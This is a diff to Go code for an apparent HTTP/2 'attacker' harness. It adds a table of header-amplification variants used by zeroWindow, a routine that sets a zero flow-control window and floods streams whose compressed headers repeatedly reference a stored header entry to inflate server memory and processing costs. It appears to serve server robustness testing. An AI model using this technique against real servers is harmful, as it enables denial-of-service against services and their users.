@@ -78,26 +78,37 @@ func emptyData(a *attacker) error {
 	})
 }
 
-// zeroWindow asks for large bodies and lets not a byte of them through, so that whatever a request costs stays. What it
-// costs is made large in several ways: by the body alone, by a head that is within every limit and takes hundreds of
-// times its bytes on the wire, and by one that is beyond.
+// swells are the heads of the attackers of zeroWindow: a field that the table stores once, and how often each head names
+// it. What a request costs is made large by the body alone, by heads within every usual limit that take hundreds of times
+// their bytes on the wire, by some within limits on that too, and by one that is beyond.
+var swells = []struct {
+	name  string
+	bytes int
+	times int
+}{
+	{"", 0, 0},
+	{"x-bomb", 500, 80},
+	{"cookie", 500, 80},
+	{"x", 0, crumbsPerBlock},
+	{"x-bomb", 500, 20},
+	{"cookie", 3900, 2},
+	{"x", 0, 90},
+	{"x-bomb", storedBytes, 14},
+}
+
+// zeroWindow asks for large bodies and lets not a byte of them through, so that whatever a request costs stays.
 func zeroWindow(a *attacker) error {
 	if err := a.open(appendSetting(nil, settingInitialWindow, 0)); err != nil {
 		return err
 	}
 	go a.frames(nil)
 	first := appendRequest(nil, indexGet, heldPath)
-	refs := 0
-	switch a.index % 4 {
-	case 1:
-		first, refs = appendStored(first, "x-bomb", strings.Repeat("x", 500)), 80
-	case 2:
-		first, refs = appendStored(first, "cookie", strings.Repeat("c", 500)), 80
-	case 3:
-		first, refs = appendStored(first, "x", ""), crumbsPerBlock
+	swell := swells[a.index%len(swells)]
+	if swell.times > 0 {
+		first = appendStored(first, swell.name, strings.Repeat("x", swell.bytes))
 	}
 	b := appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, 1, first)
-	block := append(appendRequest(nil, indexGet, heldPath), bytes.Repeat([]byte{indexNewest}, refs)...)
+	block := append(appendRequest(nil, indexGet, heldPath), bytes.Repeat([]byte{indexNewest}, swell.times)...)
 	for i := range uint32(batchStreams - 1) {
 		b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, 3+2*i, block)
 	}
